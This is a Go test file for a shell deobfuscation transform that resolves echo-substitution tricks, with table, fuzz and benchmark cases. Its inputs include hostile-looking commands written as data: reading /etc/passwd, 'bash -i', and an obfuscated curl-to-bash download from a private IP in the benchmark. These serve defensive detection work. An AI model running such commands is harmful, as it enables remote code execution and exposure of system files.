package deobfuscate

import "testing"

func TestShEchoSubst(t *testing.T) {
	runTransformTable(t, ShEchoSubst, []transformCase{
		{"dollar paren", `$(echo who)ami`, `whoami`, true},
		{"backticks", "`echo cat` /etc/passwd", `cat /etc/passwd`, true},
		{"quoted literal", `$(echo 'bash -i')`, `bash -i`, true},
		{"echo -n", `$(echo -n id)`, `id`, true},
		{"in double quotes", `echo "$(echo hi there)"`, `echo "hi there"`, true},
		{"operator is quoted", `$(echo 'a|b')`, `'a|b'`, true},
		{"real command", `echo $(whoami)`, `echo $(whoami)`, false},
		{"expansion", `$(echo $HOME)`, `$(echo $HOME)`, false},
		{"echo -e", `$(echo -e '\x41')`, `$(echo -e '\x41')`, false},
		{"single quoted", `echo '$(echo x)'`, `echo '$(echo x)'`, false},
		{"echoed word", `$(echoX a)`, `$(echoX a)`, false},
	})
}

func FuzzShEchoSubst(f *testing.F) {
	fuzzTransform(f, ShEchoSubst, `$(echo who)ami`, "`echo`", `$(echo 'a`, `"$(echo "x")"`)
}

func BenchmarkShEchoSubst(b *testing.B) {
	benchTransform(b, ShEchoSubst, "$(echo cu)$(echo rl) -s http://10.0.0.1/x | `echo ba``echo sh`")
}
